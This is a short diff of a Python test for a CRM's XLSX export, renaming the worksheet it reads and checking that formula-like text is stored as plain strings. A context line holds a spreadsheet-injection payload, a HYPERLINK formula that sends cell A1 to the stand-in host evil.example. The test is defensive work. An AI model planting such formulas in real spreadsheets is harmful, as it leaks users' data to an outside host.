@@ -59,8 +59,8 @@ class TestXlsxText(DealerCrmCase):
         self.assertIn("=1+2", seen)
         self.assertIn('=HYPERLINK("http://evil.example/?x="&A1,"Click")', seen)
         book = load_workbook(io.BytesIO(content))
-        header = [c.value for c in book["res.partner"][1]]
-        title = book["res.partner"].cell(2, header.index("Job Position") + 1)
+        header = [c.value for c in book["Contact"][1]]
+        title = book["Contact"].cell(2, header.index("Job Position") + 1)
         self.assertEqual((title.value, title.data_type), ("=1+2", "s"))
 
     def test_every_xlsx_report_writes_text_as_text(self):
